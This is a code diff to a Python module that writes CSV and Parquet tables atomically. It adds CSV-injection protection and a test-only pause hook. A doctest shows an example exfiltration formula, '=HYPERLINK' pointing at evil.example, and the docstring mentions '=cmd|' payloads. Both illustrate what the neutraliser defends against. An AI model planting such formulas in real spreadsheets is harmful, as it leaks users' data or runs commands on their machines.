@@ -1,15 +1,44 @@
-"""Atomic CSV and Parquet writes: a reader never sees a half-written table."""
+"""Atomic CSV and Parquet writes: a reader never sees a half-written table.
+
+CSV is written for spreadsheets as well as for programs:
+
+- UTF-8 with a byte-order mark, so that Excel opens it as UTF-8 and shows "£" (without
+  the mark it guesses the locale's code page). Python's `csv` and pandas read it with
+  `encoding="utf-8-sig"` (pandas also with its default); the BOM is only in CSV.
+- Formula cells neutralised (OWASP "CSV injection"): a text cell that starts with `=`,
+  `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so Excel and LibreOffice
+  show the text instead of running `=HYPERLINK(...)` or `=cmd|...` found in a council
+  document (issue 12, finding 8). Only text columns: a number column's -5000 stays a
+  number. Parquet and DuckDB keep the text exactly as read.
+"""
 
 from __future__ import annotations
 
 import os
+import sys
 import tempfile
+import time
 from collections.abc import Callable
 from pathlib import Path
+from typing import TextIO
 
 import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
+
+PAUSE_ENV = "SLIPPAGE_TEST_PAUSE_AT"
+PAUSE_SECONDS = 600.0
+
+
+def pause_at(step: str) -> None:
+    """Given a write step's name, sleep there when SLIPPAGE_TEST_PAUSE_AT names it (test-only).
+
+    The tests of `slippage.staging` send real signals (and kill -9) to a run paused at
+    each write step; nothing else sets the variable.
+    """
+    if os.environ.get(PAUSE_ENV) == step:
+        print(f"slippage: test pause at {step}", file=sys.stderr, flush=True)
+        time.sleep(PAUSE_SECONDS)
 
 
 def _umask() -> int:
@@ -52,10 +81,43 @@ def atomic_write_text(path: Path, text: str) -> None:
     atomic_write(path, write)
 
 
+CSV_ENCODING = "utf-8-sig"  # UTF-8 with a byte-order mark: see the module docstring
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value: object) -> object:
+    """Given a cell, return it with a leading `'` if it is text a spreadsheet would run as a formula.
+
+    >>> print(neutralise('=HYPERLINK("http://evil.example/?"&A1,"x")'))
+    '=HYPERLINK("http://evil.example/?"&A1,"x")
+    >>> neutralise("-£5,000 shortfall"), neutralise("Delay"), neutralise(-5000)
+    ("'-£5,000 shortfall", 'Delay', -5000)
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
+    """Given a frame, return it with every text column's formula cells neutralised (numbers untouched)."""
+    text = [c for c in df.columns if pd.api.types.is_object_dtype(df[c]) or pd.api.types.is_string_dtype(df[c])]
+    if not text:
+        return df
+    out = df.copy(deep=False)
+    for col in text:
+        out[col] = df[col].map(neutralise, na_action="ignore")
+    return out
+
+
+def write_csv(df: pd.DataFrame, target: Path | TextIO, *, header: bool = True) -> None:
+    """Given a frame and a path (or an open text file), write it as the dataset's CSV."""
+    csv_safe(df).to_csv(target, index=False, header=header, encoding=CSV_ENCODING, lineterminator="\n")
+
+
 def write_table(out_dir: Path, name: str, df: pd.DataFrame) -> list[Path]:
     """Given an output folder, a table name and its frame, write NAME.csv and NAME.parquet atomically."""
     csv_path, parquet_path = out_dir / f"{name}.csv", out_dir / f"{name}.parquet"
-    atomic_write(csv_path, lambda p: df.to_csv(p, index=False, encoding="utf-8", lineterminator="\n"))
+    atomic_write(csv_path, lambda p: write_csv(df, p))
     atomic_write(parquet_path, lambda p: df.to_parquet(p, index=False))
     return [csv_path, parquet_path]
 
@@ -76,7 +138,7 @@ class TableSink:
         self.name = name
         self.paths = {ext: out_dir / f"{name}.{ext}" for ext in ("csv", "parquet")}
         self.temps = {ext: _temp_beside(path) for ext, path in self.paths.items()}
-        self._csv = self.temps["csv"].open("w", encoding="utf-8", newline="")
+        self._csv = self.temps["csv"].open("w", encoding=CSV_ENCODING, newline="")
         self._parquet: pq.ParquetWriter | None = None
         self._schema: pa.Schema | None = None
         self.rows = 0
@@ -94,7 +156,7 @@ class TableSink:
 
     def _write(self, df: pd.DataFrame) -> None:
         """Given a frame, add its rows to both files (the first one also sets header and schema)."""
-        df.to_csv(self._csv, index=False, header=self._schema is None, lineterminator="\n")
+        write_csv(df, self._csv, header=self._schema is None)
         table = pa.Table.from_pandas(df, schema=self._schema, preserve_index=False)
         if self._parquet is None:
             self._schema = table.schema
